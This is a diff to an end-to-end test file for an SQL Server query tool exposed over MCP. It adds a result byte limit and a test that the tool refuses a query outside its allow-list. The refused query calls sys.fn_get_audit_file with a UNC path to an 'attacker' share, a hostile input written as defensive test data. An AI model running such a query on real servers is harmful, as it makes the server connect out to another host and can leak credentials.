@@ -15,6 +15,7 @@ import { TOOL_NAMES } from '../src/tools/index.ts';
 import { createMssqlStandIn, generatedRows, serverError, StandInServer, type ReceivedBatch, type Reply } from './support/mssql-stand-in.ts';
 
 const ROW_LIMIT = 25;
+const BYTE_LIMIT = 64 * 1024;
 const dir = mkdtempSync(join(tmpdir(), 'mcp-mssql-e2e-'));
 writeFileSync(join(dir, 'username'), 'reader\n');
 writeFileSync(join(dir, 'password'), 'p@ss\n');
@@ -91,6 +92,7 @@ beforeAll(async () => {
       MSSQL_ROW_LIMIT: String(ROW_LIMIT),
       MSSQL_QUERY_TIMEOUT_MS: '200',
     }),
+    resultByteLimit: BYTE_LIMIT,
   };
   app = await startMcpApp(createApp(config, { driver: createMssqlStandIn(server), log: silentLogger }), { port: 0, host: '127.0.0.1' }, { logSink: () => undefined });
   client = new Client({ name: 'mcp-mssql-test', version: '1.0.0' });
@@ -227,6 +229,7 @@ describe('run_query', () => {
       rowCount: 1,
       truncated: false,
       rowLimit: ROW_LIMIT,
+      byteLimit: BYTE_LIMIT,
     });
     expect(server.batches.at(-1)).toMatchObject({
       sql: 'SET LOCK_TIMEOUT 5000;\nSELECT id, placed FROM dbo.Orders WHERE customer = @customer AND total > @min',
@@ -246,6 +249,25 @@ describe('run_query', () => {
     expect(body.note).toContain(`first ${ROW_LIMIT} rows`);
     expect(server.cancels).toBe(1);
     expect(server.rowsSent).toBe(ROW_LIMIT + 1);
+  });
+
+  it('caps the result in bytes while streaming: the row that would pass the cap cancels the query', async () => {
+    const tenKilobytes = 'x'.repeat(10 * 1024);
+    server.on('FROM dbo.Wide', { resultSets: [{ columns: [{ name: 'doc', type: 'nvarchar' }], rows: generatedRows(20, () => [tenKilobytes]) }] });
+    const result = await call('run_query', { sql: 'SELECT doc FROM dbo.Wide' });
+    const body = result.structuredContent as { rows: unknown[]; rowCount: number; truncated: boolean; note: string };
+    expect(body).toMatchObject({ rowCount: 6, truncated: true, byteLimit: BYTE_LIMIT });
+    expect(body.note).toContain(`the ${BYTE_LIMIT}-byte limit`);
+    expect(server.cancels).toBe(1);
+    expect(server.rowsSent).toBe(7);
+  });
+
+  it('refuses a query outside the allow-list with its reason, before anything reaches the server', async () => {
+    const result = await call('run_query', { sql: "SELECT * FROM sys.fn_get_audit_file('\\\\attacker\\share\\*', DEFAULT, DEFAULT)" });
+    expect(text(result)).toBe(
+      'error (refused): query refused: FN_GET_AUDIT_FILE reads server files (logs, traces, audits) and, given a UNC path, makes the server connect to another host',
+    );
+    expect(server.batches).toEqual([]);
   });
 
   it('cancels a query past MSSQL_QUERY_TIMEOUT_MS', async () => {
